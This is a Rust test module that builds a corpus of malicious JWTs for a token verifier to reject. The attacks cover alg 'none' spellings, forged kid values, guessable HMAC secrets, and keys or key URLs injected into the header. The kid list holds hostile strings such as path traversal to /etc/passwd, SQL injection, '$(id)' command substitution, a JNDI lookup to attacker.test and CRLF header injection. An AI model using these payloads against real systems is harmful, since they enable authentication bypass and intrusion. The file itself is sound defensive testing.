//! Attacks by the JOSE header: `alg`, `kid`, keys brought along, extensions.

use serde_json::{Value, json};

use super::super::mint::{self, Signer, b64};
use super::world::{MACHINE, PARTNER, STRICT, of};
use super::*;

pub(super) fn collect(world: &World, corpus: &mut Corpus) {
    alg_none(world, corpus);
    alg_unknown(world, corpus);
    kid(world, corpus);
    kid_of_another(world, corpus);
    hmac_secrets(world, corpus);
    keys_brought_along(world, corpus);
    extensions(world, corpus);
    typ(world, corpus);
}

/// RFC 8725 §3.2; every spelling, with no signature, a real one and a random one.
fn alg_none(world: &World, corpus: &mut Corpus) {
    let claims = mint::claims("someone");
    for alg in ["none", "None", "NONE", "nOnE", "noNe", " none", "none ", "none\0", "nonе"] {
        let header = json!({"alg": alg, "typ": "JWT"});
        let unsigned = format!("{}.{}.", encode(&header), encode(&claims));
        // Its third part is empty, which is the wrong shape before it is the wrong algorithm.
        let reasons = &["algorithm_not_allowed", "token_malformed"];
        corpus.refuse("alg-none", format!("{alg:?} unsigned"), unsigned, reasons);
        let header = header_with(&world.rsa, "alg", json!(alg));
        let signed = world.rsa.sign_with(header, &claims);
        corpus.refuse("alg-none", format!("{alg:?} signed"), signed, ALGORITHM);
    }
    let header = encode(&json!({"alg": "none"}));
    let junk = format!("{header}.{}.{}", encode(&claims), b64(b"junk"));
    corpus.refuse("alg-none", "none with junk", junk, ALGORITHM);
    let two = format!("{header}.{}", encode(&claims));
    corpus.refuse("alg-none", "none in two parts", two, MALFORMED);
}

/// Only registered names that we know count, byte for byte (RFC 7515 §4.1.1: case-sensitive).
fn alg_unknown(world: &World, corpus: &mut Corpus) {
    let claims = mint::claims("someone");
    for alg in [
        "",
        "rs256",
        "Rs256",
        "RS256 ",
        " RS256",
        "RS256\0",
        "RS1",
        "RSA",
        "RS257",
        "RS2560",
        "HS1",
        "hs256",
        "A128KW",
        "RSA-OAEP",
        "dir",
        "ECDH-ES",
        "PBES2-HS256+A128KW",
        "ML-DSA-65",
        "SHA256",
        "null",
        "../RS256",
    ] {
        let token = world.rsa.sign_with(header_with(&world.rsa, "alg", json!(alg)), &claims);
        corpus.refuse("alg-unknown", format!("{alg:?}"), token, ALGORITHM);
    }
    for alg in [Value::Null, json!(256), json!(true), json!(["RS256"]), json!({"RS256": 1})] {
        let name = alg.to_string();
        let token = world.rsa.sign_with(header_with(&world.rsa, "alg", alg), &claims);
        corpus.refuse("alg-type", name, token, ALG_TYPE);
    }
    let token = world.rsa.sign_with(json!({"typ": "JWT", "kid": "rsa"}), &claims);
    corpus.refuse("alg-type", "absent", token, ALG_TYPE);
    corpus.refuse("alg-type", "empty header", world.rsa.sign_raw(b"{}", b"{}"), ALG_TYPE);
}

/// `kid` is a name to look up, never a path, a query or a part of either.
fn kid(world: &World, corpus: &mut Corpus) {
    let claims = mint::claims("someone");
    let attacker = world.attacker("RS256");
    let huge = "k".repeat(8 * 1024);
    for kid in [
        "",
        " ",
        "rs",
        "RSA",
        "rsa ",
        " rsa",
        "rsa\0",
        "rsa\n",
        "rsa,p256",
        "*",
        "%",
        "0",
        "null",
        "../../../../../../dev/null",
        "/dev/null",
        "file:///etc/passwd",
        "..\\..\\windows\\win.ini",
        "x' UNION SELECT 'key';--",
        "' OR 1=1 --",
        "|/usr/bin/id",
        "$(id)",
        "`id`",
        "{{7*7}}",
        "${jndi:ldap://attacker.test/a}",
        "https://attacker.test/jwks.json",
        "\u{202e}asr",
        "rsа",
        "__proto__",
        "constructor",
        "keys[0]",
        "hs",
        "strict-ec",
        "entra",
        "../partner/rsa",
        "\r\nx-auth-subject: admin",
        &huge,
    ] {
        let token = attacker.with_kid(kid).sign(&claims);
        let name: String = kid.chars().take(40).collect();
        corpus.refuse("kid", format!("{name:?}"), token, KEY);
    }
    for kid in [Value::Null, json!(0), json!(-1), json!(false), json!(["rsa"]), json!({"a": "rsa"})]
    {
        let name = kid.to_string();
        // Taken for an absent kid, null leads to every key, and to no signature.
        let reasons: &[&str] = if kid.is_null() {
            &["token_malformed", "key_unknown", "signature_invalid"]
        } else {
            KID_TYPE
        };
        let token = attacker.sign_with(header_with(attacker, "kid", kid), &claims);
        corpus.refuse("kid-type", name, token, reasons);
    }
}

/// Two issuers may use one `kid`: keys are looked up by provider and `kid`, never by `kid` alone.
fn kid_of_another(world: &World, corpus: &mut Corpus) {
    let family = "kid-cross";
    let main = mint::claims("someone");
    corpus.refuse(family, "partner as main", world.partner.sign(&main), SIGNATURE);
    corpus.refuse(family, "main as partner", world.rsa.sign(&of(PARTNER)), SIGNATURE);
    for signer in [&world.rsa_noalg, &world.p256, &world.ed] {
        let name = format!("{} as partner", signer.kid());
        corpus.refuse(family, name, signer.sign(&of(PARTNER)), UNFIT);
        let name = format!("{} as machine", signer.kid());
        corpus.refuse(family, name, signer.sign(&of(MACHINE)), ALGORITHM);
    }
    corpus.refuse(family, "strict as main", world.strict.sign(&main), KEY);
    corpus.refuse(family, "entra as main", world.entra.sign(&main), KEY);
    corpus.refuse(family, "hmac as main", world.hs.sign(&main), ALGORITHM);
    corpus.refuse(family, "hmac as strict", world.hs.sign(&of(STRICT)), TYPE_OR_ALGORITHM);
    let no_kid = |signer: &Signer, claims: &Value| {
        signer.sign_with(json!({"alg": signer.algorithm()}), claims)
    };
    corpus.refuse(family, "partner without kid", no_kid(&world.partner, &main), SIGNATURE);
    corpus.refuse(family, "rsa without kid", no_kid(&world.rsa, &of(PARTNER)), SIGNATURE);
    corpus.refuse(
        family,
        "attacker without kid",
        no_kid(world.attacker("EdDSA"), &main),
        SIGNATURE,
    );
}

/// Empty and guessable secrets (CVE-2026-45363 and its like).
fn hmac_secrets(world: &World, corpus: &mut Corpus) {
    for alg in ["HS256", "HS384", "HS512"] {
        for issuer in [mint::ISSUER, MACHINE] {
            for kid in [None, Some("hs"), Some(""), Some("/dev/null"), Some("rsa")] {
                let mut header = json!({"alg": alg, "typ": "JWT"});
                if let Some(kid) = kid {
                    header["kid"] = json!(kid);
                }
                let reasons = match (issuer == MACHINE && alg == "HS256", kid) {
                    (false, _) => ALGORITHM,
                    (true, None | Some("hs")) => SIGNATURE,
                    (true, _) => KEY,
                };
                let token = Signer::hmac(alg, "", b"").sign_with(header, &of(issuer));
                corpus.refuse("kid-hs-empty", format!("{alg} {kid:?} {issuer}"), token, reasons);
            }
        }
    }
    let guesses: [&[u8]; 7] = [
        b"secret",
        b"hs",
        b"null",
        &[1; 32],
        b"your-256-bit-secret",
        b"[object Object]",
        MACHINE.as_bytes(),
    ];
    for guess in guesses {
        let token = Signer::hmac("HS256", "hs", guess).sign(&of(MACHINE));
        let name = String::from_utf8_lossy(guess).escape_debug().to_string();
        corpus.refuse("hs-guess", name, token, SIGNATURE);
    }
    let published = Signer::hmac("HS256", "hs", world.hs.jwk()["k"].as_str().unwrap().as_bytes());
    corpus.refuse("hs-guess", "text of k, undecoded", published.sign(&of(MACHINE)), SIGNATURE);
    for alg in ["HS384", "HS512"] {
        let token = world.hs.with_algorithm(alg).sign(&of(MACHINE));
        corpus.refuse("alg-wrong", format!("{alg} with the secret of HS256"), token, ALGORITHM);
    }
}

/// A key, or where to get one, in the header (CVE-2018-0114): never looked at, never fetched.
fn keys_brought_along(world: &World, corpus: &mut Corpus) {
    let claims = mint::claims("someone");
    let secret = Signer::hmac("HS256", "attacker", &[7; 32]);
    for attacker in world.attackers.iter().chain([&secret]) {
        let fit = world.main().into_iter().find(|key| key.algorithm() == attacker.algorithm());
        let mut kids = vec![("no kid", None), ("own kid", Some("attacker"))];
        kids.extend(fit.map(|key| ("real kid", Some(key.kid()))));
        let der = b64_standard(&attacker.public_der());
        let brought: [(&'static str, &str, Value); 6] = [
            ("inj-jwk", "jwk", attacker.jwk()),
            ("inj-jwk", "jwks", mint::jwks(&[attacker])),
            ("inj-jku", "jku", json!("https://attacker.test/jwks.json")),
            ("inj-x5u", "x5u", json!("https://attacker.test/chain.pem")),
            ("inj-x5c", "x5c", json!([der])),
            ("inj-x5t", "x5t#S256", json!(b64(&[1; 32]))),
        ];
        for (family, member, value) in brought {
            for (which, kid) in kids.iter().copied() {
                let mut header = json!({"alg": attacker.algorithm(), "typ": "JWT"});
                header[member] = value.clone();
                if let Some(kid) = kid {
                    header["kid"] = json!(kid);
                }
                let reasons = match (attacker.algorithm(), kid) {
                    ("HS256", _) => ALGORITHM,
                    (_, Some("attacker")) => KEY,
                    _ => SIGNATURE,
                };
                let name = format!("{member} {} {which}", attacker.algorithm());
                corpus.refuse(family, name, attacker.sign_with(header, &claims), reasons);
            }
        }
    }
}

/// Extensions that change the meaning of the rest: all of these are authentic.
fn extensions(world: &World, corpus: &mut Corpus) {
    let claims = mint::claims("someone");
    let authentic = |header: Value| world.rsa.sign_with(header, &claims);
    let crit: &[&str] = &["crit_unsupported"];
    for value in [
        json!([]),
        json!(["exp"]),
        json!(["b64"]),
        json!(["alg"]),
        json!(["crit"]),
        json!([""]),
        json!(["exp", "exp"]),
        json!(["http://attacker.test/ext"]),
        json!([1]),
        json!([["exp"]]),
        json!("exp"),
        json!(""),
        json!(1),
        json!({}),
        json!(false),
        Value::Null,
    ] {
        let name = value.to_string();
        corpus.refuse("crit", name, authentic(header_with(&world.rsa, "crit", value)), crit);
    }
    let mut understood = header_with(&world.rsa, "crit", json!(["exp"]));
    understood["exp"] = json!(mint::now() + 600);
    corpus.refuse("crit", "names a member that is there", authentic(understood), crit);

    // RFC 7797: the payload stands unencoded between the dots.
    for crit in [None, Some(json!(["b64"]))] {
        let mut header = header_with(&world.rsa, "b64", json!(false));
        let name = if crit.is_some() { "with crit" } else { "without crit" };
        if let Some(crit) = crit {
            header["crit"] = crit;
        }
        let token = world.rsa.sign_encoded(&encode(&header), &claims.to_string());
        let reasons = &["token_malformed", "crit_unsupported"];
        corpus.refuse("b64-false", name, token, reasons);
    }

    for (member, value) in [
        ("zip", json!("DEF")),
        ("zip", json!("GZ")),
        ("zip", json!("")),
        ("zip", json!(1)),
        ("enc", json!("A256GCM")),
        ("enc", json!("")),
        ("enc", json!("none")),
    ] {
        let name = format!("{member} {value}");
        corpus.refuse("zip", name, authentic(header_with(&world.rsa, member, value)), MALFORMED);
    }
    let inner = world.rsa.sign(&claims);
    for cty in ["JWT", "jwt", "Jwt", "application/jwt"] {
        let header = header_with(&world.rsa, "cty", json!(cty));
        let nested = world.rsa.sign_raw(header.to_string().as_bytes(), inner.as_bytes());
        corpus.refuse("cty", format!("{cty} nested"), nested, MALFORMED);
        if cty.eq_ignore_ascii_case("jwt") {
            corpus.refuse("cty", format!("{cty} of claims"), authentic(header), MALFORMED);
        }
    }
}

/// Tokens of another kind by the same issuer (RFC 8725 §3.11); `strict` wants `at+jwt`.
fn typ(world: &World, corpus: &mut Corpus) {
    let claims = of(STRICT);
    let sign = |typ: Value| world.strict.sign_with(header_with(&world.strict, "typ", typ), &claims);
    for typ in [
        "JWT",
        "",
        "at",
        "jwt+at",
        "at+jwt ",
        "at+jwt,JWT",
        "dpop+jwt",
        "logout+jwt",
        "secevent+jwt",
        "id+jwt",
        "application/JWT",
        "at\u{2b}jwt\0",
    ] {
        corpus.refuse("typ", format!("{typ:?}"), sign(json!(typ)), &["type_not_allowed"]);
    }
    for typ in [Value::Null, json!(1), json!(["at+jwt"]), json!({"at+jwt": 1})] {
        let reasons = &["type_not_allowed", "token_malformed"];
        corpus.refuse("typ", typ.to_string(), sign(typ), reasons);
    }
}

fn encode(value: &Value) -> String {
    b64(value.to_string().as_bytes())
}

fn b64_standard(bytes: &[u8]) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}
